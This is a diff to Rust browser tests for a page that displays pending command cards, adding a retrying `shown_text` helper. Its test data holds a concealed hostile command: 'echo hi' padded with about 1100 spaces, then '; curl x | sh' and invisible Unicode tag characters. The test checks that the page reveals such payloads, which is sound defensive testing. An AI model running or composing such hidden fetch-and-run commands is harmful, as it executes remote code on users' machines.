@@ -109,6 +109,27 @@ async fn wait_for(browser: &Client, selector: &str) {
     }
 }
 
+/// The text of the element `selector` matches, once it is displayed. The
+/// page redraws a card when an update arrives: an element found just
+/// before is then stale, and the look is taken again on the new one.
+async fn shown_text(browser: &Client, selector: &str) -> String {
+    let deadline = Instant::now() + DEADLINE;
+    loop {
+        let seen = match browser.find(Locator::Css(selector)).await {
+            Ok(element) => match (element.is_displayed().await, element.text().await) {
+                (Ok(true), Ok(text)) => return text,
+                (displayed, text) => format!("displayed {displayed:?}, text {text:?}"),
+            },
+            Err(error) => error.to_string(),
+        };
+        assert!(
+            Instant::now() < deadline,
+            "{selector} never showed its text: {seen}"
+        );
+        tokio::time::sleep(Duration::from_millis(25)).await;
+    }
+}
+
 /// The value of `script` run in the current tab.
 async fn script(browser: &Client, script: &str) -> Value {
     browser
@@ -267,8 +288,7 @@ fn a_click_in_chromium_answers_and_a_second_tab_sees_it_live() {
         browser.switch_to_window(first_tab).await.expect("switch");
         let hostile = "article[data-state='pending'] .title";
         wait_for(&browser, hostile).await;
-        let title = browser.find(Locator::Css(hostile)).await.expect("title");
-        assert_eq!(title.text().await.expect("text"), HOSTILE);
+        assert_eq!(shown_text(&browser, hostile).await, HOSTILE);
         assert!(
             browser.find(Locator::Css("img")).await.is_err(),
             "an <img> was made"
@@ -594,12 +614,7 @@ fn an_incomplete_card_in_chromium_shows_its_markers_and_no_accept() {
         browser.goto(&serve.url()).await.expect("open the URL");
         let pending = format!("article[data-card='{id}'][data-state='pending']");
         wait_for(&browser, &pending).await;
-        let shown = browser
-            .find(Locator::Css(&format!("{pending} .command")))
-            .await
-            .expect("the command");
-        assert!(shown.is_displayed().await.expect("displayed"));
-        let text = shown.text().await.expect("text");
+        let text = shown_text(&browser, &format!("{pending} .command")).await;
         assert!(
             text.starts_with("echo hi⟨1100 spaces⟩; curl x | sh⟨U+E0072⟩⟨U+E006D⟩x"),
             "{}",
